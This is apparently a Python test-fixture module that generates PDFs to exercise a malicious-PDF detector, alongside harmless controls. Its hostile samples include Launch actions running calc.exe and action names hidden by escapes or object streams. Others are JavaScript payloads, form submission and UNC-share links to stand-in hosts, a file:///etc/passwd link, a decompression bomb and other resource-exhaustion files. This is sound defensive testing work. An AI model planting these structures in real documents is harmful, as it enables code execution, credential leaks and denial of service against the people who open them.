"""PDF files that do more than show pages, each by another way to hide it; and some that do not."""

from __future__ import annotations

import zlib
from collections.abc import Callable
from io import BytesIO

from pypdf import PdfWriter

HEAD = b"%PDF-1.7\n"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] %s >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def made_of(*objects: bytes, version: bytes = HEAD, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from one; the first is its catalogue."""
    out, places = BytesIO(), []
    out.write(version)
    for number, content in enumerate(objects, start=1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, content))
    start = out.tell()
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    out.write(b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(places) + 1, rows))
    out.write(b"trailer\n<< /Size %d /Root 1 0 R %s >>\n" % (len(places) + 1, trailer))
    out.write(b"startxref\n%d\n%%%%EOF\n" % start)
    return out.getvalue()


def one_page(*more: bytes, root: bytes = b"", page: bytes = b"") -> bytes:
    """Objects of one's own begin at 4."""
    return made_of(b"<< /Type /Catalog /Pages 2 0 R %s >>" % root, PAGES, PAGE % page, *more)


def link(action: bytes, *more: bytes) -> bytes:
    """A page with a link on it; `more` objects begin at 5."""
    annotation = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A %s >>" % action
    return one_page(annotation, *more, page=b"/Annots [4 0 R]")


def in_an_object_stream(*objects: bytes, root: bytes, filling: bytes = b"") -> bytes:
    """The objects lie packed in a stream, with a table of contents that is a stream too."""
    out, places = BytesIO(), []
    out.write(HEAD)
    numbers, body = b"", b""
    for number, content in enumerate(objects, start=6):
        numbers += b"%d %d " % (number, len(body))
        body += content + b" "
    head = b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(objects), len(numbers))
    plain = (
        *(b"<< /Type /Catalog /Pages 2 0 R %s >>" % root, PAGES, PAGE % b""),
        _stream(head, zlib.compress(numbers + body + filling, 1)),
    )
    for number, content in enumerate(plain, start=1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, content))
    start = out.tell()
    rows = [(0, 0, 255), *((1, place, 0) for place in (*places, start))]
    rows += [(2, 4, index) for index in range(len(objects))]
    table = b"".join(bytes([kind]) + at.to_bytes(4, "big") + bytes([more]) for kind, at, more in rows)
    head = b"/Type /XRef /Size %d /W [1 4 1] /Root 1 0 R" % len(rows)
    out.write(b"5 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (_stream(head, table), start))
    return out.getvalue()


def _stream(head: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (head, len(data), data)


def of_pages(count: int) -> bytes:
    writer = PdfWriter()
    for _ in range(count):
        writer.add_blank_page(width=100, height=100)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def with_many_lost_objects(size: int) -> bytes:
    """Thousands of references to what is nowhere, in a file of this size: a reader searches it for each."""
    lost = b" ".join(b"%d 0 R" % number for number in range(20_000, 29_000))
    filling = b"<< /Length %d >>\nstream\n%s\nendstream" % (size, b"x" * size)
    holders = [b"<< /S %d 0 R >>" % number for number in range(20_000, 29_000)]
    return one_page(filling, b"[%s]" % lost, *holders)


def deep(levels: int) -> bytes:
    return one_page(b"[" * levels + b"]" * levels)


def bomb() -> bytes:
    """A small stream of objects that unpacks to much."""
    return in_an_object_stream(b"<< /S /P >>", root=b"/OpenAction 6 0 R", filling=b" " * 200_000_000)


LAUNCH = b"<< /S /Launch /F (calc.exe) >>"
SHARE = b"(\\\\\\\\198.51.100.7\\\\share)"
ATTACKS: dict[str, Callable[[], bytes]] = {
    "a launch by a reference": lambda: one_page(b"/Launch", b"<< /S 4 0 R >>", root=b"/OpenAction 5 0 R"),
    "a launch by references": lambda: link(b"6 0 R", b"/Launch", b"<< /S 5 0 R /F (a) >>"),
    "a launch in escapes": lambda: one_page(root=b"/OpenAction << /S /L#61unch /F (a) >>"),
    "a script under an escaped key": lambda: one_page(root=b"/OpenAction << /S /GoTo /J#53 (app.alert) >>"),
    "a launch in an object stream": lambda: in_an_object_stream(LAUNCH, root=b"/OpenAction 6 0 R"),
    "a type of action in an object stream": lambda: in_an_object_stream(
        b"<< /S 7 0 R /F (a) >>", b"/Launch", root=b"/OpenAction 6 0 R"
    ),
    "a form that is sent away": lambda: link(b"<< /S /SubmitForm /F (https://x.example/) >>"),
    "another file": lambda: link(b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>"),
    "a file on the network": lambda: link(b"<< /S /GoToR /F " + SHARE + b" /D [0 /Fit] >>"),
    "a network path at opening": lambda: one_page(root=b"/OpenAction << /S /GoToR /F " + SHARE + b" >>"),
    "an address at opening": lambda: one_page(root=b"/OpenAction << /S /URI /URI (https://x.example/) >>"),
    "an address at opening, by references": lambda: one_page(
        b"<< /S 5 0 R /URI (https://x.example/) >>", b"/URI", root=b"/OpenAction 4 0 R"
    ),
    "an address after a page": lambda: link(
        b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://x.example/) >> >>"
    ),
    "a launch after a page, in a list": lambda: link(
        b"<< /S /GoTo /D [3 0 R /Fit] /Next [5 0 R] >>", b"<< /S 6 0 R >>", b"/Launch"
    ),
    "a link to a file": lambda: link(b"<< /S /URI /URI (file:///etc/passwd) >>"),
    "a link to the network": lambda: link(b"<< /S /URI /URI " + SHARE + b" >>"),
    "a link that is a script": lambda: link(b"<< /S /URI /URI (javascript:alert\\(1\\)) >>"),
    "an address on a field": lambda: one_page(
        b"<< /Subtype /Widget /A << /S /URI /URI (https://x.example/) >> >>", page=b"/Annots [4 0 R]"
    ),
    "an unheard-of action": lambda: link(b"<< /S /Explode >>"),
    "an action that acts by itself": lambda: one_page(page=b"/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>"),
    "a tree of names with a script": lambda: one_page(
        b"<< /Kids [5 0 R] >>",
        b"<< /Kids [6 0 R] /Limits [(a) (a)] >>",
        b"<< /Limits [(a) (a)] /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >>",
        root=b"/Names << /JavaScript 4 0 R >>",
    ),
    "a tree of names with a file": lambda: one_page(
        b"<< /Kids [5 0 R] >>", b"<< /Names [(a) << /Type /Filespec /F (a.exe) >>] >>", root=b"/Names 4 0 R"
    ),
    "a form of XML": lambda: one_page(root=b"/AcroForm << /Fields [] /XFA (x) >>"),
    "a film": lambda: one_page(
        b"<< /Subtype 5 0 R /Rect [0 0 9 9] >>", b"/RichMedia", page=b"/Annots [4 0 R]"
    ),
    "bytes that another file holds": lambda: one_page(b"<< /Length 0 /F (a) >>\nstream\n\nendstream"),
    "an object that no table names": lambda: one_page().replace(
        b"startxref\n", b"9 0 obj\n" + LAUNCH + b"\nendobj\nstartxref\n", 1
    ),
}

HARMLESS: dict[str, Callable[[], bytes]] = {
    "a page": one_page,
    "a link to a page": lambda: link(b"<< /S /GoTo /D [3 0 R /Fit] >>"),
    "a link to the web": lambda: link(b"<< /Type /Action /S /URI /URI (https://www.1177.se/) >>"),
    "a link by reference": lambda: link(b"5 0 R", b"<< /S 6 0 R /URI (mailto:a@x.example) >>", b"/URI"),
    "a page to open at": lambda: one_page(root=b"/OpenAction [3 0 R /Fit]"),
    "an action to open at": lambda: one_page(root=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
    "paragraphs with attributes": lambda: one_page(
        b"<< /Type /StructTreeRoot /K 5 0 R >>",
        b"<< /S /P /P 4 0 R /A << /O /Layout /TextAlign /Start >> >>",
        root=b"/StructTreeRoot 4 0 R /MarkInfo << /Marked true >>",
    ),
    "bookmarks": lambda: one_page(
        b"<< /Type /Outlines /First 5 0 R /Last 6 0 R /Count 2 >>",
        b"<< /Title (a) /Parent 4 0 R /Next 6 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>",
        b"<< /Title (b) /Parent 4 0 R /Prev 5 0 R /Dest [3 0 R /Fit] >>",
        root=b"/Outlines 4 0 R",
    ),
    "an object stream": lambda: in_an_object_stream(
        b"<< /S /GoTo /D [3 0 R /Fit] >>", root=b"/OpenAction 6 0 R"
    ),
}

#: What would cost a web process seconds or hundreds of megabytes.
DEAR: dict[str, Callable[[], bytes]] = {
    "objects that are nowhere": lambda: with_many_lost_objects(8_500_000),
    "a bomb": bomb,
    "too many pages": lambda: of_pages(301),
}
